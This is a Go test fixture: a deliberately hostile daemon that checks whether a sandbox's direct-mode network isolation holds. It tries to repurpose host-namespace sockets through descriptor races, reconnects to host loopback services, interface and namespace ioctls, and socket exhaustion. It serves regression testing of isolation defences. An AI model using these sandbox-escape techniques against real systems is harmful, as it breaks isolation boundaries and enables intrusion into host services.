//go:build linux

// Command directattack is a TEST FIXTURE: a hostile daemon for direct mode
// (docs/egress.md, "Direct mode"). Started by oac-guest as the daemon (uid
// 1000, no capability) of a sandbox run with --data-plane direct, it gets
// sockets of the host's own network namespace by connecting to upstreams
// the egress rules allow, then tries to take them elsewhere, the five ways
// a hostile workload broke direct mode on 9b648ae:
//
//   - race: one host socket; swapper threads keep putting it and sockets of
//     the workload's own (UDP, TCP) at one descriptor number while
//     attacker threads disconnect it (connect AF_UNSPEC) and connect it to
//     a service on the host's loopback, bind it, listen on it;
//   - forget: a first host socket kept open, then many direct connects
//     (each read to its end and closed), then the first is disconnected,
//     connected to a host service, bound, listened on;
//   - reach: on a host socket, the interface, MAC and namespace ioctls,
//     SO_BINDTODEVICE to a host interface and IP_OPTIONS; then a host
//     socket whose upstream reads nothing is filled and kept (what a
//     closing socket leaves in FIN-WAIT-1);
//   - hold: many host sockets held at once, then many opened and closed
//     at once (the closer's side keeps TIME_WAIT).
//
// Every outcome is a line "attack: key=value" on stdout (an errno name,
// "ok", or a value), then "attack: done=1"; it then holds every socket
// until SIGTERM. It is static, needs no shell, and does the calls itself
// (raw system calls on blocking sockets), so the same binary runs in
// bwrap, OCI and VM guests.
//
//	directattack --up NAME:PORT --churn NAME:PORT --sink NAME:PORT \
//	  --race-service ADDR:PORT --forget-service ADDR:PORT \
//	  [--race-for DUR] [--forget N] [--hold N] [--cycle N]
package main

import (
	"context"
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"net"
	"net/netip"
	"os"
	"os/signal"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

func say(key string, v any) { fmt.Printf("attack: %s=%v\n", key, v) }

func main() {
	up := flag.String("up", "", "an allowed upstream that keeps each connection open until the client closes (NAME:PORT)")
	churn := flag.String("churn", "", "an allowed upstream that closes each connection at once (NAME:PORT)")
	sink := flag.String("sink", "", "an allowed upstream that reads nothing (NAME:PORT)")
	raceService := flag.String("race-service", "", "a service on the host's loopback no rule allows (ADDR:PORT)")
	forgetService := flag.String("forget-service", "", "another one, for the forget attack (ADDR:PORT)")
	raceFor := flag.Duration("race-for", 3*time.Second, "how long the descriptor race runs")
	forget := flag.Int("forget", 3000, "direct connects between the first host socket and the attack on it")
	hold := flag.Int("hold", 600, "host sockets held at once")
	cycle := flag.Int("cycle", 1000, "host sockets opened and closed after them")
	flag.Parse()
	term := make(chan os.Signal, 1)
	signal.Notify(term, syscall.SIGTERM)

	say("ids", fmt.Sprintf("uid=%d gid=%d", os.Getuid(), os.Getgid()))
	var lim unix.Rlimit
	if unix.Getrlimit(unix.RLIMIT_NOFILE, &lim) == nil {
		say("nofile", fmt.Sprintf("%d/%d", lim.Cur, lim.Max))
	}
	own, err := ownNetns()
	if err != nil {
		say("setup", errName(err))
		<-term
		return
	}
	a := &attacker{own: own}
	for _, r := range []struct {
		into *netip.AddrPort
		name string
	}{{&a.up, *up}, {&a.churn, *churn}, {&a.sink, *sink}} {
		if *r.into, err = resolve(r.name); err != nil {
			say("setup", fmt.Sprintf("resolve %s: %s", r.name, errName(err)))
			<-term
			return
		}
	}
	a.raceService = netip.MustParseAddrPort(*raceService)
	a.forgetService = netip.MustParseAddrPort(*forgetService)

	a.race(*raceFor)
	a.forget(*forget)
	a.reach()
	a.hold(*hold, *cycle)
	say("done", 1)
	<-term
	runtime.KeepAlive(a)
}

type attacker struct {
	own                        uint64 // the workload's network namespace (SO_NETNS_COOKIE)
	up, churn, sink            netip.AddrPort
	raceService, forgetService netip.AddrPort
	kept                       []int // host sockets held until SIGTERM
}

// errName is an errno's name, "ok" for no error.
func errName(err error) string {
	if err == nil {
		return "ok"
	}
	var e unix.Errno
	if errors.As(err, &e) {
		if n := unix.ErrnoName(e); n != "" {
			return n
		}
	}
	return strings.ReplaceAll(err.Error(), " ", "_")
}

func resolve(hp string) (netip.AddrPort, error) {
	host, port, err := net.SplitHostPort(hp)
	if err != nil {
		return netip.AddrPort{}, err
	}
	p, err := strconv.Atoi(port)
	if err != nil {
		return netip.AddrPort{}, err
	}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	addrs, err := net.DefaultResolver.LookupNetIP(ctx, "ip4", host)
	if err != nil {
		return netip.AddrPort{}, err
	}
	if len(addrs) == 0 {
		return netip.AddrPort{}, fmt.Errorf("no address for %s", host)
	}
	return netip.AddrPortFrom(addrs[0].Unmap(), uint16(p)), nil
}

// sockaddr is a struct sockaddr_in.
func sockaddr(ap netip.AddrPort) [16]byte {
	var b [16]byte
	binary.NativeEndian.PutUint16(b[0:], unix.AF_INET)
	binary.BigEndian.PutUint16(b[2:], ap.Port())
	a := ap.Addr().As4()
	copy(b[4:], a[:])
	return b
}

// connectTo is connect(2) as a C program makes it: the address as given
// (an all-zero one is AF_UNSPEC: a disconnect).
func connectTo(fd int, sa *[16]byte) error {
	if _, _, e := unix.Syscall(unix.SYS_CONNECT, uintptr(fd), uintptr(unsafe.Pointer(&sa[0])), 16); e != 0 {
		return e
	}
	return nil
}

// dial connects a fresh blocking TCP socket to ap (the trap puts the
// host's socket in its place when the host allows it).
func dial(ap netip.AddrPort) (int, error) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return -1, err
	}
	sa := sockaddr(ap)
	if err := connectTo(fd, &sa); err != nil {
		unix.Close(fd)
		return -1, err
	}
	return fd, nil
}

func ownNetns() (uint64, error) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return 0, err
	}
	defer unix.Close(fd)
	return unix.GetsockoptUint64(fd, unix.SOL_SOCKET, unix.SO_NETNS_COOKIE)
}

// isHost reports whether fd is a socket of another network namespace than
// the workload's: the host's.
func (a *attacker) isHost(fd int) bool {
	c, err := unix.GetsockoptUint64(fd, unix.SOL_SOCKET, unix.SO_NETNS_COOKIE)
	return err == nil && c != a.own
}

func local(fd int) string {
	sa, err := unix.Getsockname(fd)
	if err != nil {
		return errName(err)
	}
	if in, ok := sa.(*unix.SockaddrInet4); ok {
		return netip.AddrPortFrom(netip.AddrFrom4(in.Addr), uint16(in.Port)).String()
	}
	return fmt.Sprintf("%T", sa)
}

func peer(fd int) string {
	sa, err := unix.Getpeername(fd)
	if err != nil {
		return errName(err)
	}
	if in, ok := sa.(*unix.SockaddrInet4); ok {
		return netip.AddrPortFrom(netip.AddrFrom4(in.Addr), uint16(in.Port)).String()
	}
	return fmt.Sprintf("%T", sa)
}

// tcpState is the kernel's TCP state of fd (1 established, 7 close, 10
// listen), or an errno name.
func tcpState(fd int) string {
	info, err := unix.GetsockoptTCPInfo(fd, unix.IPPROTO_TCP, unix.TCP_INFO)
	if err != nil {
		return errName(err)
	}
	return strconv.Itoa(int(info.State))
}

func listening(fd int) string {
	v, err := unix.GetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_ACCEPTCONN)
	if err != nil {
		return errName(err)
	}
	return strconv.Itoa(v)
}

// hostSocket connects to the holding upstream and checks the socket it
// got is the host's.
func (a *attacker) hostSocket(key string) (int, bool) {
	fd, err := dial(a.up)
	if err != nil {
		say(key, errName(err))
		return -1, false
	}
	if !a.isHost(fd) {
		say(key, "not-a-host-socket")
		unix.Close(fd)
		return -1, false
	}
	say(key, "host")
	a.kept = append(a.kept, fd)
	return fd, true
}

// race is the descriptor-number race (issue class 1): x is swapped
// between the host socket h and sockets of the workload's own by two
// threads while four others disconnect, connect to the host service,
// bind and listen on x, for d. A seventh samples h's TCP state (1
// established, 2 SYN_SENT, 7 close, 10 listen).
func (a *attacker) race(d time.Duration) {
	h, ok := a.hostSocket("race-host-socket")
	if !ok {
		say("race-done", 0)
		return
	}
	say("race-host-local", local(h))
	udp, err1 := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	tcp, err2 := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
	if err := errors.Join(err1, err2); err != nil {
		say("race-setup", errName(err))
		say("race-done", 0)
		return
	}
	x, err := unix.Dup(udp)
	if err != nil {
		say("race-setup", errName(err))
		say("race-done", 0)
		return
	}
	to, unspec := sockaddr(a.raceService), [16]byte{}
	var stop atomic.Bool
	var swappers sync.WaitGroup
	var swaps atomic.Int64
	for i := range 2 {
		swappers.Add(1)
		go func() {
			defer swappers.Done()
			runtime.LockOSThread()
			mine := udp
			if i == 1 {
				mine = tcp
			}
			for !stop.Load() {
				_ = unix.Dup3(h, x, unix.O_CLOEXEC)
				_ = unix.Dup3(mine, x, unix.O_CLOEXEC)
				swaps.Add(2)
			}
		}()
	}
	var calls atomic.Int64
	var mu sync.Mutex
	outcomes := map[string]int{}
	// The host socket's own state, watched throughout: LISTEN or
	// SYN_SENT would mean a call took it elsewhere.
	states := map[string]int{}
	var monitor sync.WaitGroup
	monitor.Add(1)
	go func() {
		defer monitor.Done()
		for !stop.Load() {
			states[tcpState(h)]++
		}
	}()
	var attackers sync.WaitGroup
	for i := range 4 {
		attackers.Add(1)
		go func() {
			defer attackers.Done()
			runtime.LockOSThread()
			seen := map[string]int{}
			for !stop.Load() {
				var err error
				what := ""
				switch i {
				case 0:
					what = "disconnect+connect"
					if err = connectTo(x, &unspec); err == nil {
						err = connectTo(x, &to)
					}
				case 1:
					what = "connect"
					err = connectTo(x, &to)
				case 2:
					what = "bind"
					err = unix.Bind(x, &unix.SockaddrInet4{Port: int(a.raceService.Port()) + 1})
				case 3:
					what = "listen"
					err = unix.Listen(x, 1)
				}
				calls.Add(1)
				seen[what+":"+errName(err)]++
			}
			mu.Lock()
			for k, v := range seen {
				outcomes[k] += v
			}
			mu.Unlock()
		}()
	}
	time.Sleep(d)
	stop.Store(true)
	swappers.Wait()
	monitor.Wait()
	// An attacker may be stuck in a connect the kernel is still making
	// (a host socket whose handshake never completes): its calls are
	// not counted, and it does not hold the next attack.
	finished := make(chan struct{})
	go func() { attackers.Wait(); close(finished) }()
	stuck := "0"
	select {
	case <-finished:
	case <-time.After(3 * time.Second):
		stuck = "some"
	}
	say("race-calls", calls.Load())
	say("race-swaps", swaps.Load())
	say("race-host-states", histogram(states))
	say("race-stuck", stuck)
	mu.Lock()
	say("race-outcomes", histogram(outcomes))
	mu.Unlock()
	say("race-host-peer", peer(h))
	say("race-host-state", tcpState(h))
	say("race-host-listening", listening(h))
	say("race-done", 1)
}

func histogram(m map[string]int) string {
	var keys []string
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var parts []string
	for _, k := range keys {
		parts = append(parts, fmt.Sprintf("%s*%d", k, m[k]))
	}
	if len(parts) == 0 {
		return "none"
	}
	return strings.Join(parts, ",")
}

// parallel runs n calls of f on 8 threads and returns the outcomes.
func parallel(n int, f func() error) (ok int, errs map[string]int) {
	var next atomic.Int64
	var mu sync.Mutex
	errs = map[string]int{}
	var wg sync.WaitGroup
	for range 8 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for next.Add(1) <= int64(n) {
				err := f()
				mu.Lock()
				if err == nil {
					ok++
				} else {
					errs[errName(err)]++
				}
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	return ok, errs
}

// forget is issue class 2: a first host socket, n direct connects, then
// the first one attacked with no race.
func (a *attacker) forget(n int) {
	first, ok := a.hostSocket("forget-first-socket")
	if !ok {
		say("forget-done", 0)
		return
	}
	start := time.Now()
	okN, errs := parallel(n, func() error {
		fd, err := dial(a.churn)
		if err != nil {
			return err
		}
		defer unix.Close(fd)
		// The upstream closes first: its side keeps the TIME_WAIT.
		var b [1]byte
		_, err = unix.Read(fd, b[:])
		return err
	})
	say("forget-connects", fmt.Sprintf("%d/%d", okN, n))
	say("forget-connect-errors", histogram(errs))
	say("forget-connects-took", time.Since(start).Round(time.Millisecond))
	to, unspec := sockaddr(a.forgetService), [16]byte{}
	say("forget-first-disconnect", errName(connectTo(first, &unspec)))
	say("forget-first-connect", errName(connectTo(first, &to)))
	say("forget-first-bind", errName(unix.Bind(first, &unix.SockaddrInet4{})))
	say("forget-first-listen", errName(unix.Listen(first, 1)))
	say("forget-first-peer", peer(first))
	say("forget-first-state", tcpState(first))
	say("forget-done", 1)
}

// reach is issue class 3: what a host socket shows of the host's network
// and what binds it to a host interface; then a socket that would close
// into FIN-WAIT-1.
func (a *attacker) reach() {
	fd, ok := a.hostSocket("reach-socket")
	if !ok {
		say("reach-done", 0)
		return
	}
	names, err := ifconf(fd)
	if err != nil {
		say("reach-SIOCGIFCONF", errName(err))
	} else {
		say("reach-SIOCGIFCONF", "ok:"+strings.Join(names, ","))
	}
	dev := "lo"
	for _, n := range names {
		if n != "lo" {
			dev = n
			break
		}
	}
	say("reach-SIOCGIFHWADDR", hwaddr(fd, dev))
	say("reach-SIOCGSKNS", skns(fd))
	say("reach-SO_BINDTODEVICE", errName(unix.SetsockoptString(fd, unix.SOL_SOCKET, unix.SO_BINDTODEVICE, dev)))
	say("reach-IP_OPTIONS", errName(unix.SetsockoptString(fd, unix.IPPROTO_IP, unix.IP_OPTIONS, "\x01\x01\x01\x00")))
	// Closed here: bound to a host interface that does not lead to its
	// upstream, its FIN would never arrive.
	a.kept = a.kept[:len(a.kept)-1]
	say("reach-close", errName(unix.Close(fd)))

	s, err := dial(a.sink)
	if err != nil {
		say("sink", errName(err))
		say("reach-done", 1)
		return
	}
	a.kept = append(a.kept, s)
	if err := unix.SetNonblock(s, true); err != nil {
		say("sink", errName(err))
	}
	chunk := make([]byte, 64<<10)
	queued := 0
	for queued < 64<<20 {
		n, err := unix.Write(s, chunk)
		if err != nil {
			break
		}
		queued += n
	}
	say("sink-queued", queued)
	say("reach-done", 1)
}

// ifconfBuf is SIOCGIFCONF's buffer: not on a goroutine's stack, which
// may move while the kernel writes through the pointer to it.
var ifconfBuf [40 * 64]byte

func ifconf(fd int) ([]string, error) {
	buf := ifconfBuf[:]
	conf := struct {
		len int32
		_   int32
		buf uintptr
	}{len: int32(len(buf)), buf: uintptr(unsafe.Pointer(&buf[0]))}
	_, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.SIOCGIFCONF, uintptr(unsafe.Pointer(&conf)))
	if e != 0 {
		return nil, e
	}
	var names []string
	for off := 0; off+40 <= int(conf.len); off += 40 { // struct ifreq
		names = append(names, strings.TrimRight(string(buf[off:off+16]), "\x00"))
	}
	return names, nil
}

func hwaddr(fd int, dev string) string {
	ifr, err := unix.NewIfreq(dev)
	if err != nil {
		return errName(err)
	}
	if err := unix.IoctlIfreq(fd, unix.SIOCGIFHWADDR, ifr); err != nil {
		return errName(err)
	}
	raw := (*[unix.IFNAMSIZ + 24]byte)(unsafe.Pointer(ifr))
	return fmt.Sprintf("ok:%s:%x", dev, raw[unix.IFNAMSIZ+2:unix.IFNAMSIZ+8])
}

// skns asks for the socket's network namespace (SIOCGSKNS): an open
// descriptor of it.
func skns(fd int) string {
	r, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), unix.SIOCGSKNS, 0)
	if e != 0 {
		return errName(e)
	}
	unix.Close(int(r))
	return "ok"
}

// hold is issue class 4: n host sockets held at once, then m opened and
// closed (this side closes first, so this side's socket is the one in
// TIME_WAIT).
func (a *attacker) hold(n, m int) {
	var mu sync.Mutex
	okN, errs := parallel(n, func() error {
		fd, err := dial(a.up)
		if err != nil {
			return err
		}
		if !a.isHost(fd) {
			unix.Close(fd)
			return errors.New("not-a-host-socket")
		}
		mu.Lock()
		a.kept = append(a.kept, fd)
		mu.Unlock()
		return nil
	})
	say("hold-open", okN)
	say("hold-errors", histogram(errs))
	start := time.Now()
	okM, errs := parallel(m, func() error {
		fd, err := dial(a.up)
		if err != nil {
			return err
		}
		return unix.Close(fd)
	})
	say("cycle-ok", okM)
	say("cycle-errors", histogram(errs))
	say("cycle-took", time.Since(start).Round(time.Millisecond))
	say("hold-done", 1)
}
